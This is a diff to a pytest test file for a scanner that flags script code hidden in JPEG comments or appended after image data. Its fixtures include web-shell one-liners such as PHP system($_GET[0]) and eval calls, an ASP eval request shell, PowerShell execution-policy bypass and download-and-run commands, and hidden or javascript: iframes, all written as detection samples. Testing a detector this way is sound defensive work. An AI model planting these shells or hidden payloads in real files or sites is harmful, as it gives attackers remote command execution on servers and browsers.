@@ -8,6 +8,7 @@ import pytest
 
 from corrupt_samples.encode import jpeg
 from corrupt_samples.pictures import photo
+from sanitize.probe import markup
 from tests.embedding import in_comments, places
 
 if TYPE_CHECKING:
@@ -89,19 +90,18 @@ ENCODINGS = {"8 bits": "latin-1", "le": "utf-16-le", "be": "utf-16-be"}
 def test_is_silent_about_words_on_switches_and_tags(fired: Fired, encoding: str) -> None:
     told = [
         "PowerShell -NoProfile switch explained in class",
-        "PowerShell -NoProfile -NonInteractive are switches",
-        "PowerShell -ExecutionPolicy Bypass explained",
-        "PowerShell -Command is a switch",
-        "PowerShell -File runs a file such as a.ps1",
+        "PowerShell -NoProfile -NonInteractive are two switches",
         "powershell -nologo and others, see page 7",
+        "PowerShell -Version 5.1",
+        "PowerShell -sta",
+        "Powershell -v 2 (photo)",
         "@echo off explained in a sentence",
         "Slide: <?php opens a block; echo prints",
-        "<?php for beginners (part 2)",
+        "<?php new features; slides",
         "<?php use it with care; slide 3",
-        "The <?php ?> tags (and <?= ?>); a talk",
-        "<?php and $variables; <?php - the tag (opening)",
+        "<b><?php opens a block; echo prints</b>",
         'Talk: <iframe width="560" height="315" src="https://www.youtube.com/embed/x" allowfullscreen></iframe>',
-        "<iframe src=//player.example.org/1></iframe>",
+        '<iframe src="//example.org/1" width="100%" height="400" style="border:0;" loading="lazy" title="a (b)"></iframe>',
     ]
     texts = [text.encode(ENCODINGS[encoding]) for text in told]
     files = in_comments(texts) | {f"behind {number}.jpg": jpeg(photo("a")) + text for number, text in enumerate(texts)}
@@ -127,16 +127,84 @@ def test_finds_what_a_server_or_a_shell_would_run(fired: Fired, encoding: str) -
         "<?php __halt_compiler();",
         "<?php `id`;",
         "Photo <?PHP die(1);",
+        "<?php 1;system($_GET[0]);",
+        "<?php goto a; a: eval($_GET[0]);",
+        "<?php true; true; true; system($_GET[0]);",
+        "<?php true; true; true; // text\nsystem('id');",
+        "<?php true; true; true;" + " true;" * 99 + "system('id');",
+        "<?php use A as B; a::b();",
+        "<?php echo new Foo;",
+        "<?php echo new Foo ?>",
+        "<?php is a tag <?php system($_GET[0]); ?>",
         "powershell -nop Get-Process | Out-File a",
         "powershell -ep bypass C:\\a.ps1",
         "powershell -nop iex (iwr http://x)",
+        "powershell -nop calc",
+        "powershell -nop start the thing\r\ndel a\r\n",
+        "powershell -nop -c whoami /all",
+        "powershell -nop -w hidden",
+        "powershell -ep bypass %~dp0x.ps1",
         "@echo off\r\ndel a\r\n",
-        "<iframe src='https://example.org/x' width=0 height=0></iframe>",
-        "<iframe src='https://example.org/x' style='display: none'></iframe>",
-        "<iframe src='//example.org/x' onload='x()'></iframe>",
-        "<iframe src='javascript:x()'></iframe>",
-        "<iframe srcdoc='x' src='//example.org'></iframe>",
+        '<% eval request("x") %>',
     ]
     texts = [text.encode(ENCODINGS[encoding]) for text in run]
     files = in_comments(texts) | {f"behind {number}.jpg": jpeg(photo("a")) + text for number, text in enumerate(texts)}
     assert sorted(files.keys() - fired(RULE, files).keys()) == []
+
+
+def test_finds_frames_that_are_not_known_to_be_in_view_and_to_run_nothing(fired: Fired) -> None:
+    size = b'width="560" height="315"'
+    frames = [
+        b'<iframe src="https://example.org/x">',
+        b'<iframe src="https://example.org/x" width="560">',
+        b'<iframe src="https://example.org/x" width="2" height="2">',
+        b'<iframe src="https://example.org/x" width="0001" height="0001">',
+        b'<iframe src="https://example.org/x" width="1%" height="100%">',
+        b'<iframe src="https://example.org/x"width="0" ' + size + b">",
+        b'<iframe src="https://example.org/x" ' + size + b' style="opacity:.0">',
+        b'<iframe src="https://example.org/x" ' + size + b" hidden>",
+        b'<iframe src="https://example.org/x" ' + size + b' onload="x()">',
+        b'<iframe src="https://example.org/x" ' + size + b' title="a" srcdoc="b">',
+        b'<iframe src="javascript:x()" title=" src=//example.org" ' + size + b">",
+        b'<iframe src="javascript:x()" src="//example.org" ' + size + b">",
+        b'<iframe src="//example.org/x" src="javascript:x()" ' + size + b">",
+        b'<iframe src="data:text/html,x" ' + size + b">",
+        b"<iframe src=//example.org/x width=560 height=315>",
+    ]
+    files = in_comments(frames)
+    assert places(fired(RULE, files)) == dict.fromkeys(files, "a script in HTML in the comment of the JPEG")
+
+
+@pytest.mark.parametrize(
+    "opening",
+    [
+        b"<?php '\x80 ",
+        b"<?=$a;\x80",
+        b"<% eval\x80%>",
+        b"<script></script>",
+        b"<html> ",
+        b"<!doctype html> ",
+        b"<img src=a>",
+        b"<?php opens a block; slides</b>",
+        b'<iframe src="//example.org" width="560" height="315">',
+    ],
+)
+@pytest.mark.parametrize("number", [1, 20_000])
+def test_openings_that_lead_to_nothing_hide_no_code_behind_them(opening: bytes, number: int) -> None:
+    data = opening * number + b"<?php system($_GET[0]); ?>"
+    found = markup.find(data, 0, len(data))
+    assert found is not None
+    assert (found.kind, found.start) == ("php", len(opening) * number)
+
+
+@pytest.mark.parametrize("between", [b"\x80%", b"%\x80", b"\0\0"])
+def test_a_page_of_a_server_is_text_from_its_word_on(between: bytes) -> None:
+    data = b"<% eval" + between + b" a %>"
+    assert markup.find(data, 0, len(data)) is None
+
+
+def test_finds_scripts_whatever_stands_before_their_source() -> None:
+    data = b"<script " + b"a" * 500 + b" src = //example.org/x>"
+    found = markup.find(data, 0, len(data))
+    assert found is not None
+    assert found.kind == "html-script"
